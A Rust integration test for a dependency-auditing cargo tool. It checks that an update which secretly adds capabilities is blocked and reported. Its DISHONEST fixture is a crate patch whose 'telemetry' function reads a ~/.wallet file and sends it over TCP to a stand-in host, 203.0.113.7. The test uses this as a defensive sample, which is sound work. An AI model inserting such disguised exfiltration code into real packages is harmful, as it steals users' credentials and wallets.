//! The story of the announcement: a patch release that begins to open a socket and to read a wallet.

mod registry;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use registry::Registry;

const TOOL: &str = env!("CARGO_BIN_EXE_cargo-nanobuild");

const HONEST: &str = "\
/// What to tell somebody.
pub fn message(who: &str, what: &str) -> String {
    format!(\"{who}: {what}\")
}
";

const DISHONEST: &str = "\
/// What to tell somebody.
pub fn message(who: &str, what: &str) -> String {
    telemetry::count();
    format!(\"{who}: {what}\")
}

mod telemetry {
    use std::io::Write as _;

    pub fn count() {
        if let Ok(wallet) = std::fs::read(\"/home/user/.wallet\") {
            if let Ok(mut to) = std::net::TcpStream::connect(\"203.0.113.7:443\") {
                let _ = to.write_all(&wallet);
            }
        }
    }
}
";

const APPLICATION: &str = "fn main() { println!(\"{}\", notifier::message(\"you\", \"hello\")); }\n";

struct App {
    folder: tempfile::TempDir,
    target: PathBuf,
}

impl App {
    fn new(registry: &Registry) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("example");
        let app = Self { folder, target };
        app.write("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2024\"\n\n[dependencies]\nnotifier = { version = \"1.0\", registry = \"local\" }\n");
        app.write("src/main.rs", APPLICATION);
        app.write(".cargo/config.toml", &format!("[registries.local]\nindex = \"{}\"\n", registry.index()));
        app
    }

    fn write(&self, file: &str, text: &str) {
        let path = self.folder.path().join(file);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    fn read(&self, file: &str) -> String {
        std::fs::read_to_string(self.folder.path().join(file)).unwrap()
    }

    fn run(&self, program: &str, args: &[&str], registry: &Registry) -> (Option<i32>, String) {
        let mut command = Command::new(program);
        command
            .args(args)
            .current_dir(self.folder.path())
            .env("CARGO_TARGET_DIR", &self.target)
            // Guests are built outside of the project's folder here.
            .env("CARGO_REGISTRIES_LOCAL_INDEX", registry.index())
            .env_remove("CARGO");
        let Output { status, stdout, stderr } = command.output().unwrap();
        let text = String::from_utf8_lossy(&stdout).into_owned() + &String::from_utf8_lossy(&stderr);
        (status.code(), text)
    }
}

#[test]
fn an_update_that_asks_for_more_stops_and_the_old_version_stays() {
    let registry = Registry::new();
    registry.publish("notifier", "1.0.0", HONEST);
    let app = App::new(&registry);
    let (code, text) = app.run(TOOL, &["add", "notifier"], &registry);
    assert_eq!(code, Some(0), "{text}");
    let (code, text) = app.run(TOOL, &["update"], &registry);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("notifier 1.0.0 is the newest version"), "{text}");

    registry.publish("notifier", "1.0.1", DISHONEST);
    let before = ["Cargo.toml", "Cargo.lock", "nanobuild.toml", "nanobuild.lock"].map(|file| (file, app.read(file)));
    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
    assert_eq!(code, Some(1), "{text}");
    for expected in [
        "fs.read: read files and folders",
        "net.connect: open network connections",
        "notifier calls std::fs::read at notifier-1.0.1/src/lib.rs:11",
        "notifier calls std::net::tcp::TcpStream::connect at notifier-1.0.1/src/lib.rs:12",
        "> notifier::message",
        "reached by notifier::message",
        "nobody is here to decide",
    ] {
        assert!(text.contains(expected), "{expected}\n{text}");
    }
    for (file, content) in &before {
        assert_eq!(&app.read(file), content, "{file} changed");
    }
    let (code, text) = app.run(TOOL, &["run"], &registry);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("you: hello"), "{text}");

    // A yanked version is none, unless it is asked for by name.
    registry.yank("notifier", "1.0.1");
    let (code, text) = app.run(TOOL, &["update", "notifier"], &registry);
    assert_eq!(code, Some(0), "{text}");
    let (code, text) = app.run(TOOL, &["update", "notifier", "--precise", "1.0.7"], &registry);
    assert_eq!(code, Some(2), "{text}");
    assert!(text.contains("1.0.7"), "{text}");

    // A lockfile that was edited to hide what a crate asks for gives itself away.
    let (code, text) = app.run(TOOL, &["explain", "notifier"], &registry);
    assert_eq!(code, Some(0), "{text}");
    assert!(text.contains("notifier 1.0.0 asks for nothing"), "{text}");
}
